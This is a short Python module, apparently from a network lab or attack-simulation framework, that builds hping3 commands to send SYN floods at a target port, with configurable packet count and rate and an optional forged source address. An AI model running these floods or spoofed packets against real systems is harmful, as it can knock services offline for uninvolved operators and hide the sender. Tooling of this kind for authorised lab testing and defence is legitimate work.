"""hping3 SYN floods, from the attacker's own address or a spoofed one."""

from __future__ import annotations

from typing import Annotated, ClassVar

from jenga_edge.contract.typed import doc

from .base import AttackStep, StepContext


class Step(AttackStep, tag="hping3", kw_only=True):
    binaries: ClassVar[tuple[str, ...]] = ("hping3",)
    ok_exits: ClassVar[tuple[int, ...]] = (0, 1)  # 1: no reply came back, as with a spoofed source

    port: Annotated[int, doc("destination port", ge=1, le=65535)] = 80
    count: Annotated[int, doc("SYN packets sent in all (-c)", ge=1, le=200000)] = 5000
    rate: Annotated[float, doc("packets per second", ge=1, le=20000)] = 1000
    spoof: Annotated[
        str | None, doc("forged source address: in the lab's subnet or a documentation range (RFC 5737)")
    ] = None

    def spoofed(self) -> list[str]:
        return [self.spoof] if self.spoof else []

    def command(self, ctx: StepContext) -> list[str]:
        interval = max(1, round(1e6 / self.rate))
        source = ["-a", self.spoof] if self.spoof else []
        return ["hping3", "-q", "-S", "-p", str(self.port), "-c", str(self.count), "-i", f"u{interval}",
                *source, ctx.target_address]  # fmt: skip
